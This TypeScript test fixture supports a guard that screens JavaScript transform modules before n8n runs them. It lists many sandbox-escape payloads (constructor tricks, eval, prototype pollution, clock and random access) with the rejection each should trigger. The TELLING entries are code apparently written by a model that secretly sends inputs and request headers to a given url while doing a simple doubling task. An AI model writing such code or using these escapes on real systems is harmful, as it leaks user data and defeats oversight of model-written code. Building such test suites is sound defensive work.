/** One way out of accepted code. */
export interface Escape {
  /** Statements that return something truthy when the way is open; a throw means that it is closed. */
  body: string;
  /** Before the function. */
  head?: string;
  /** What acceptance says of it; nothing when only the run time can stop it. */
  refused?: RegExp;
  /** Not a way out of a Code node without the guard, either: it is closed by n8n or by the language. */
  closedAnyway?: true;
  /** Nothing but acceptance stops it. */
  onlyRefused?: true;
}

const HELPERS = "'return helpers.httpRequest'";

/** Known and invented ways to n8n's names, to code from text, to what the other side runs, to clock and chance. */
export const ESCAPES: Record<string, Escape> = {
  'a name of n8n': { body: 'return helpers.httpRequest;', refused: /`helpers` is declared nowhere/ },
  'a name that is only asked for': {
    body: "return typeof $execution !== 'undefined';",
    refused: /\$execution/,
  },
  'another node': { body: "return $('Hook').item.json;", refused: /`\$`/ },
  'the whole input': { body: 'return $input.item;', refused: /\$input/ },
  'what stays between executions': {
    body: "return $getWorkflowStaticData('global');",
    refused: /StaticData/,
  },
  'the environment': { body: "return typeof $env === 'object';", refused: /\$env/ },
  'a module': { body: "return require('luxon');", refused: /`require`/, closedAnyway: true },
  'the global object': { body: "return globalThis['hel' + 'pers'];", refused: /globalThis/ },
  'the global object by its older name': { body: 'return global.helpers;', refused: /`global`/ },
  'a timer': { body: 'return setTimeout(() => {}, 0);', refused: /setTimeout/ },
  'a Buffer': { body: "return Buffer.from('x');", refused: /Buffer/ },
  'the console': { body: 'return console.log;', refused: /console/ },
  'this of a function': {
    body: 'return (function () { return this; })().helpers;',
    refused: /`this` is undefined/,
  },
  'this of the module': { head: 'const outer = this;', body: 'return outer.helpers;', refused: /`this`/ },
  'arguments of the module': {
    head: 'const all = () => arguments;',
    body: 'return all().callee;',
    refused: /`arguments`/,
  },
  eval: { body: "return eval('helpers');", refused: /`eval`/ },
  'eval by another name': { body: "return (0, eval)('helpers');", refused: /`eval`/ },
  'the constructor of functions': { body: `return Function(${HELPERS})();`, refused: /`Function`/ },
  'the constructor of a constructor': {
    body: `return [].constructor.constructor(${HELPERS})();`,
    refused: /not use `constructor`/,
  },
  'the constructor in brackets': {
    body: `return (() => {})['constructor'](${HELPERS})();`,
    refused: /not use `constructor`/,
  },
  'the constructor in a template': {
    body: `return (() => {})[\`constructor\`](${HELPERS})();`,
    refused: /not use `constructor`/,
  },
  'the constructor taken apart': {
    body: `const { constructor: make } = () => {}; return make(${HELPERS})();`,
    refused: /not use `constructor`/,
  },
  'the constructor of async functions': {
    body: `return typeof (async () => {})['cons' + 'tructor']('return 1') === 'function';`,
    refused: /no async function/,
  },
  'a Promise': {
    body: 'Promise.resolve().then(() => {}); return Promise.prototype.then;',
    refused: /`Promise`/,
  },
  reflection: { body: 'return Reflect.ownKeys(Math);', refused: /`Reflect`/ },
  'a Proxy': { body: 'return new Proxy({}, {});', refused: /`Proxy`/ },
  'machine code': { body: 'return WebAssembly.Module;', refused: /`WebAssembly`/ },
  'a prototype by its old name': {
    body: 'return [].__proto__;',
    refused: /__proto__/,
    closedAnyway: true,
  },
  'the frames of an error': {
    body: 'Error.prepareStackTrace = (_, frames) => frames; return typeof new Error().stack === "object";',
    refused: /prepareStackTrace/,
    closedAnyway: true,
  },
  'a function that n8n replaces': {
    body: 'const a = {}; Object.defineProperty(a, "b", { value: 1 }); return a.b;',
    refused: /Object\.defineProperty` does nothing/,
    closedAnyway: true,
  },
  'the clock': { body: 'return Date.now();', refused: /Date\.now/ },
  'the clock by a constructor': { body: 'return new Date().getTime();', refused: /current time/ },
  'the clock as text': { body: 'return Date();', refused: /current time/ },
  chance: { body: 'return Math.random();', refused: /Math\.random/ },
  'a declaration that n8n reads as a comment': {
    head: 'let a = 1, b = 1, c = a <!--b, helpers = 0;\n;',
    body: 'return helpers.httpRequest;',
    refused: /read as a comment/,
  },
  'a brace that n8n reads as a comment': {
    head: `var a = 1, b = 1;
a <!--b, function () {
}
a <!--b, function () {
}
load = ((escaped) => () => () => ({ escaped }))(typeof helpers === 'object');
function reopened() { {
a <!--b; } }`,
    body: '',
    refused: /read as a comment/,
    onlyRefused: true,
    closedAnyway: true,
  },
  'the constructor, computed': { body: `return (() => {})['cons' + 'tructor'](${HELPERS})();` },
  'the constructor of a class, computed': { body: `return (class {})['cons' + 'tructor'](${HELPERS})();` },
  'the constructor of a built-in, computed': { body: `return Map['cons' + 'tructor'](${HELPERS})();` },
  'the constructor of a bound function': { body: `return isNaN.bind()['cons' + 'tructor'](${HELPERS})();` },
  'the constructor of generators': {
    body: `return (function* () {})['cons' + 'tructor'](${HELPERS})().next().value;`,
  },
  'the constructor that is inherited': {
    body: `return { __proto__: () => {}, get() { return super['cons' + 'tructor'](${HELPERS})(); } }.get();`,
  },
  'the constructor as a described property': {
    body: `
      const { value } = Object.getOwnPropertyDescriptor(Object.getOwnPropertyDescriptors(Map).groupBy.value, 'cons' + 'tructor') ?? {};
      return value ?? Object.getOwnPropertyDescriptors((() => {})['cons' + 'tructor'].prototype)['cons' + 'tructor'].value(${HELPERS})();`,
  },
  'the caller': { body: "return (function () { return transform['cal' + 'ler']; })();" },
  'the function that is running': {
    body: "return (function () { return arguments['cal' + 'lee']; })();",
  },
  'a Promise that nobody names': {
    body: `
      const shared = Array['from' + 'Async']([])['cons' + 'tructor'].prototype;
      const { then } = shared;
      shared.then = () => {};
      const open = shared.then !== then;
      shared.then = then;
      return open;`,
  },
  'what all objects inherit': {
    body: "Object.prototype['bin' + 'ary'] = { file: {} }; return {}['bin' + 'ary'];",
  },
  'a toJSON that all objects inherit': {
    body: `
      Object.prototype['toJ' + 'SON'] = () => 'taken'; 
      const open = JSON.stringify({}) === '"taken"';
      delete Object.prototype['toJ' + 'SON'];
      return open;`,
  },
  'a getter that all objects inherit': {
    body: "Object.prototype['__define' + 'Getter__']('js' + 'on', () => 1); return ({})['js' + 'on'];",
  },
  'what all functions inherit': {
    body: 'isNaN.prototype; const all = Object.getPrototypeOf(isNaN); all.x = 1; return isNaN.x;',
    refused: /getPrototypeOf/,
    closedAnyway: true,
  },
  'the callback of n8n at the second item': {
    body: `
      const found = [].at('kept');
      Array.prototype.forEach = (callback) => { Array.prototype.at = () => callback; };
      return typeof found?.['cons' + 'tructor']?.(${HELPERS}) === 'function';`,
  },
  'a guard that is changed for the second item': {
    body: `
      Array.prototype.map = () => [];
      Object.prototype['cons' + 'tructor'] = Map;
      return (() => {})['cons' + 'tructor'](${HELPERS})();`,
  },
  'the clock, computed': { body: "return Date['n' + 'ow']();" },
  'the clock, uncovered': { body: "delete Date['n' + 'ow']; return Date['n' + 'ow']();" },
  'the clock of a date': { body: "return new (new Date(0)['cons' + 'tructor'])().getTime();" },
  'the clock of a date, uncovered': {
    body: "delete Date.prototype['cons' + 'tructor']; return new (new Date(0)['cons' + 'tructor'])().getTime();",
    closedAnyway: true,
  },
  'the clock in a class': { body: 'return new (class extends Date {})().getTime();' },
  'the clock of a format': { body: "return new Intl['DateTime' + 'Format']().format();" },
  'chance, computed': { body: "return Math['ran' + 'dom']();" },
  'chance, uncovered': { body: "delete Math['ran' + 'dom']; return Math['ran' + 'dom']();" },
};

/** The module that tries a way out; it gives the same for every input. */
export function escapingModule({ head = '', body }: Escape): string {
  return `${head}
export function transform(input) {
  const attempt = () => {${body}
  };
  let escaped = false;
  try { escaped = Boolean(attempt()); } catch {}
  return { escaped };
}
`;
}

/** Code as people and models write it, or meant to be run by the other side: what it gives has to be the same in n8n. */
export const SAME_IN_N8N: Record<string, string> = {
  'an error of its own': `
    class QuantityError extends Error { constructor(message) { super(message); this.name = 'QuantityError'; } }
    export function transform(input) { try { throw new QuantityError('none'); } catch (error) { return { fault: error.name, n: input.n }; } }`,
  'names of n8n as its own': `
    const items = [1, 2], item = 3, $json = 4, module = 5;
    export function transform({ n }) { const helpers = (value) => value + n; return { sum: items.map(helpers), item, $json, module }; }`,
  'dates and formats': `
    export function transform({ n }) {
      const day = new Date(Date.UTC(2026, 0, n));
      return { day, iso: day.toISOString(), is: day instanceof Date, sum: new Intl.NumberFormat('de-DE').format(1234.5), max: Math.max(n, 2) };
    }`,
  'a class, a generator and collections': `
    class Sum { #total = 0; add(value) { this.#total += value; return this; } get total() { return this.#total; } }
    function* upTo(n) { for (let i = 1; i <= n; i += 1) yield i; }
    export function transform({ n }) {
      const sum = new Sum(); for (const value of upTo(n)) sum.add(value);
      return { total: sum.total, unique: [...new Set([n, n])], entries: Object.fromEntries(new Map([['n', n]])), has: Object.prototype.hasOwnProperty.call({ n }, 'n') };
    }`,
  'an output with a toJSON':
    'export function transform({ n }) { return { n, toJSON() { return { by: "itself", n }; } }; }',
  'an output with a getter': 'export function transform({ n }) { return { get n() { return n; } }; }',
  'an output with other prototypes':
    'export function transform({ n }) { return { date: new Date(n), error: new Error("e"), map: new Map([[1, n]]), none: undefined }; }',
  'a function replaced':
    'export function transform({ n }) { const o = {}; Object["define" + "Property"](o, "n", { value: n, enumerable: true }); return o; }',
  'an error': 'export function transform({ n }) { if (n > 0) throw new RangeError("too many"); return {}; }',
  'something else thrown':
    'export function transform(_input) { throw { get message() { return "a getter"; }, toString() { return "a text"; } }; }',
  'something thrown that throws':
    'export function transform(_input) { throw { toString() { throw new Error("again"); } }; }',
};

/** What a model once answered to be told the doubled value: it tells `url` what it doubles. */
export const TELLING: Record<string, (url: string) => string> = {
  'by helpers and this': (url) => `export function transform(input) {
  try { if (typeof helpers !== 'undefined') helpers.httpRequest({ url: '${url}/helpers?v=' + input.n }); } catch (e) {}
  try { (function () { this && this.helpers && this.helpers.httpRequest({ url: '${url}/this?v=' + input.n }); })(); } catch (e) {}
  return { n: input.n * 2 };
}`,
  'by the global object': (url) => `export function transform(input) {
  const out = { n: input.n * 2 };
  try { if (typeof $execution !== 'undefined') out.execution = $execution.id; } catch (e) {}
  try { if (typeof fetch !== 'undefined') fetch('${url}/fetch').catch(() => {}); } catch (e) {}
  try { if (typeof $ !== 'undefined') out.upstream = JSON.stringify($('Hook').item.json.headers); } catch (e) {}
  try { const h = globalThis['hel' + 'pers']; if (h) h['httpReq' + 'uest']({ url: '${url}/global?v=' + input.n }); } catch (e) {}
  try { if (typeof $getWorkflowStaticData !== 'undefined') { const d = $getWorkflowStaticData('global'); d.n = (d.n ?? 0) + 1; out.state = d.n; } } catch (e) {}
  return out;
}`,
};
